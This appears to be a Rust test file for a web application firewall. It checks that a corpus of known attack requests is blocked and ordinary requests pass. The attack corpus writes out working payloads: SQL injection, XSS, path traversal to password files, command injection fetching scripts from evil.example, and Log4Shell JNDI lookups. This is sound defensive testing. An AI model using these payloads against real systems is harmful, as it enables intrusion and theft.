//! The default rules against a corpus of known attacks (each must be
//! blocked) and one of ordinary requests (each must pass) at paranoia 1,
//! the default. The false-positive rate is printed and must stay 0 here.

use super::*;

/// A request as the corpora write it.
struct Case {
    path: &'static str,
    query: Option<&'static str>,
    user_agent: &'static str,
    cookie: Option<&'static str>,
    body: Option<(&'static str, &'static str)>,
}

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

fn get(path: &'static str, query: &'static str) -> Case {
    Case {
        path,
        query: Some(query),
        user_agent: BROWSER,
        cookie: None,
        body: None,
    }
}

fn post(content_type: &'static str, body: &'static str) -> Case {
    Case {
        path: "/api/submit",
        query: None,
        user_agent: BROWSER,
        cookie: None,
        body: Some((content_type, body)),
    }
}

fn engine(paranoia: u8) -> Engine {
    Engine::new(paranoia, Mode::Block, &[], &[], Vec::new()).unwrap()
}

fn blocked_by(engine: &Engine, c: &Case) -> Vec<String> {
    let mut headers = vec![("user-agent".to_string(), c.user_agent.to_string())];
    if let Some(cookie) = c.cookie {
        headers.push(("cookie".into(), cookie.into()));
    }
    let body = c.body.map(|(t, b)| (b.as_bytes().to_vec(), t.to_string()));
    engine
        .scan(&targets(c.path, c.query, &headers, body.as_ref()))
        .iter()
        .map(|h| h.rule.id.clone())
        .collect()
}

fn attacks() -> Vec<Case> {
    let q = |v: &'static str| get("/search", v);
    let mut cases = vec![
        // SQL injection
        q("id=1'+OR+'1'%3D'1"),
        q("id=1+OR+1%3D1"),
        q("user=admin'--"),
        q("id=1+UNION+SELECT+username,password+FROM+users"),
        q("id=1'+UNION+ALL+SELECT+NULL,NULL,NULL--"),
        q("id=1;+DROP+TABLE+users"),
        q("id=1'+AND+SLEEP(5)%23"),
        q("id=1+AND+(SELECT+*+FROM+(SELECT(SLEEP(5)))a)"),
        q("q='+UNION/**/SELECT/**/table_name+FROM+information_schema.tables--"),
        q("id=1%2527%2520OR%2520%25271%2527%253D%25271"),
        q("sort=1'+ORDER+BY+3--"),
        q("id=1';+EXEC+xp_cmdshell('dir')--"),
        q("id=1';WAITFOR+DELAY+'0:0:5'--"),
        q("q=%22+or+%22%22%3D%22"),
        // Cross-site scripting
        q("q=<script>alert(1)</script>"),
        q("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        q("q=<svg/onload=alert(1)>"),
        q("next=javascript:alert(document.cookie)"),
        q("q=<iframe+src=//evil.example>"),
        q("q=%22%3E%3Cscript%3Ealert(String.fromCharCode(88,83,83))%3C/script%3E"),
        q("q=<body+onload=alert('XSS')>"),
        q("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        q("q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B"),
        q("q=<details+open+ontoggle=alert(1)>"),
        // Path traversal and files
        q("file=../../../../etc/passwd"),
        q("file=..%2f..%2f..%2fetc%2fpasswd"),
        q("file=%252e%252e%252fetc%252fpasswd"),
        q("file=....//....//etc/passwd"),
        q("file=C:\\Windows\\win.ini"),
        q("file=/proc/self/environ"),
        get("/.env", ""),
        get("/.git/config", ""),
        q("file=a%00.png"),
        // Command injection and remote code
        q("host=127.0.0.1;+cat+/etc/passwd"),
        q("host=x|+whoami"),
        q("host=$(curl+http://evil.example/x.sh)"),
        q("host=`id`"),
        q("host=x+%26%26+wget+http://evil.example/x"),
        q("x=${jndi:ldap://evil.example/a}"),
        q("x=${${lower:j}ndi:ldap://evil.example/a}"),
    ];
    for ua in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    ] {
        cases.push(Case {
            user_agent: ua,
            ..get("/", "")
        });
    }
    cases.push(Case {
        cookie: Some("session=abc; pref=1'%20or%20'1'%3d'1"),
        ..get("/", "")
    });
    cases.extend([
        post(
            "application/x-www-form-urlencoded",
            "username=admin'--&password=x",
        ),
        post(
            "application/json",
            r#"{"comment": "<script>alert(1)</script>"}"#,
        ),
        post("application/json", r#"{"filter": {"id": "1 OR 1=1"}}"#),
        post(
            "application/json; charset=utf-8",
            r#"{"cmd": "ping 127.0.0.1; cat /etc/shadow"}"#,
        ),
        post("text/plain", "<img src=x onerror=alert(1)>"),
        // Cut at the inspected length: not valid JSON, still read as text.
        post(
            "application/json",
            r#"{"q": "1 UNION SELECT password FROM users", "pad": "xxxx"#,
        ),
    ]);
    cases
}

fn ordinary() -> Vec<Case> {
    let q = |v: &'static str| get("/search", v);
    let mut cases = vec![
        get("/", ""),
        get("/api/users/42", ""),
        get("/products/shoes-size-42", "color=red&size=42"),
        get("/static/app.3f9c1e.js", ""),
        get("/docs/select-a-plan", ""),
        get("/blog/2024/11/why-we-love-rust", ""),
        get("/images/logo.svg", ""),
        get("/api/v2/orders/7/items", "expand=product,price"),
        get("/users/o'brien", ""),
        q("q=O'Reilly+books"),
        q("q=rock+%26+roll"),
        q("q=select+a+plan+from+the+list"),
        q("sort=price&order=desc"),
        q("page=2&per_page=50"),
        q("redirect=%2Fdashboard%3Ftab%3Dsettings"),
        q("q=1%2B1%3D2"),
        q("q=c%2B%2B+tutorial"),
        q("email=alice%40example.com"),
        q("q=what+is+2+or+3"),
        q("q=cats+and+dogs"),
        q("filter=name:alice,age>30"),
        q("q=price+<+100+and+>+50"),
        q("utm_source=newsletter&utm_medium=email&utm_campaign=black-friday"),
        q("callback=https%3A%2F%2Fapp.example.com%2Fdone"),
        q("q=don't+stop+me+now"),
        q("name=Jean-Luc+Picard"),
        q("q=JavaScript:+The+Good+Parts"),
        q("q=drop+shipping+suppliers"),
        q("q=union+station+parking"),
        q("ts=2024-11-30T12:00:00Z&tz=Europe/Paris"),
        q("q=how+to+use+the+<select>+element"),
        q("q=AT%26T+store"),
        q("q=50%25+off"),
        q("q=1-800-FLOWERS"),
        q("path=docs/guide/index.md"),
        q("q=sleep+apnea+treatment"),
        q("q=script+writing+course"),
        q("q=%E6%97%A5%E6%9C%AC%E8%AA%9E"),
    ];
    for ua in [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ] {
        cases.push(Case {
            user_agent: ua,
            ..get("/", "")
        });
    }
    cases.push(Case {
        cookie: Some("session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.sig; theme=dark; _ga=GA1.2.12345.67890"),
        ..get("/", "")
    });
    cases.extend([
        post("application/x-www-form-urlencoded", "username=alice&password=p%40ss%27word--1"),
        post(
            "application/x-www-form-urlencoded",
            "name=Alice+O%27Neil&message=Hi!+Can+you+ship+to+Canada%3F+Thanks+--+Alice",
        ),
        post(
            "application/json",
            r#"{"name": "Alice O'Neil", "bio": "I like <b>bold</b> statements", "tags": ["rust", "c++"]}"#,
        ),
        post(
            "application/json",
            r#"{"items": [{"sku": "A-1", "qty": 2}], "note": "Leave it at the door; the cat food goes inside"}"#,
        ),
        post("application/json", r#"{"query": "how do I select rows from a table where a column is null"}"#),
        post("application/json", r#"{"title": "Q&A: 10 tips", "url": "https://example.com/a?b=c&d=e"}"#),
        post("text/plain", "Hello; how are you? I'm fine -- thanks."),
        post("application/json", r#"{"markdown": "Use `cargo build` and then *run* it"}"#),
    ]);
    cases
}

#[test]
fn known_attacks_are_blocked() {
    let e = engine(1);
    let missed: Vec<String> = attacks()
        .iter()
        .filter(|c| blocked_by(&e, c).is_empty())
        .map(|c| {
            format!(
                "{} ? {:?} ua {:?} cookie {:?} body {:?}",
                c.path, c.query, c.user_agent, c.cookie, c.body
            )
        })
        .collect();
    assert!(missed.is_empty(), "not blocked:\n{}", missed.join("\n"));
}

#[test]
fn ordinary_requests_pass_and_the_false_positive_rate_is_reported() {
    let e = engine(1);
    let cases = ordinary();
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|c| {
            let ids = blocked_by(&e, c);
            (!ids.is_empty())
                .then(|| format!("{ids:?}: {} ? {:?} body {:?}", c.path, c.query, c.body))
        })
        .collect();
    println!(
        "waf paranoia 1: {} of {} ordinary requests blocked ({:.1} %); {} attacks",
        wrong.len(),
        cases.len(),
        100.0 * wrong.len() as f64 / cases.len() as f64,
        attacks().len()
    );
    assert!(wrong.is_empty(), "blocked:\n{}", wrong.join("\n"));
}

#[test]
fn paranoia_widens_the_net() {
    let select = get("/search", "q=select+name+from+users+where+id+is+1");
    assert!(blocked_by(&engine(1), &select).is_empty());
    assert_eq!(blocked_by(&engine(2), &select), ["942200"]);
    assert!(engine(1).len() < engine(2).len() && engine(2).len() < engine(3).len());
}

#[test]
fn config_turns_rules_off_or_to_logging_and_adds_its_own() {
    let waf = Waf::init(
        r#"{"disable": ["913100"], "log_only": ["941100"],
            "rules": [{"id": "100001", "parts": ["path"], "pattern": "^/internal/"}]}"#,
    )
    .unwrap();
    let scanner = Case {
        user_agent: "sqlmap/1.7",
        ..get("/", "")
    };
    assert!(blocked_by(&waf.engine, &scanner).is_empty());
    let hits = waf.engine.scan(&[(Part::Query, "<script>".into())]);
    assert_eq!(hits[0].rule.mode, Mode::Log);
    assert_eq!(blocked_by(&waf.engine, &get("/internal/x", "")), ["100001"]);
    let err = |json: &str| Waf::init(json).err().unwrap().to_string();
    assert_eq!(err(r#"{"paranoia": 5}"#), "paranoia: 1, 2, 3 or 4");
    assert_eq!(err(r#"{"disable": ["1"]}"#), r#"disable[0]: no rule "1""#);
    assert!(
        err(r#"{"rules": [{"id": "9", "parts": ["path"], "pattern": "("}]}"#)
            .starts_with("rules[0].pattern:")
    );
    assert!(
        err(r#"{"rules": [{"id": "9", "parts": ["url"], "pattern": "x"}]}"#)
            .starts_with("rules[0].parts:")
    );
    assert!(
        err(r#"{"rules": [{"id": "942100", "parts": ["path"], "pattern": "x"}]}"#)
            .starts_with("rules[0].id:")
    );
}

#[test]
fn decoding_sees_what_the_backend_sees() {
    assert_eq!(engine::normalize("%253Cscript%253E", false), "<script>");
    assert_eq!(engine::normalize("a+b%20c", true), "a b c");
    assert_eq!(
        engine::normalize("&lt;img&#x20;src&#61;x&gt;", false),
        "<img src=x>"
    );
    assert_eq!(engine::normalize("UNION/**/SELECT", false), "UNION SELECT");
    assert_eq!(engine::normalize("100% sure", false), "100% sure");
}
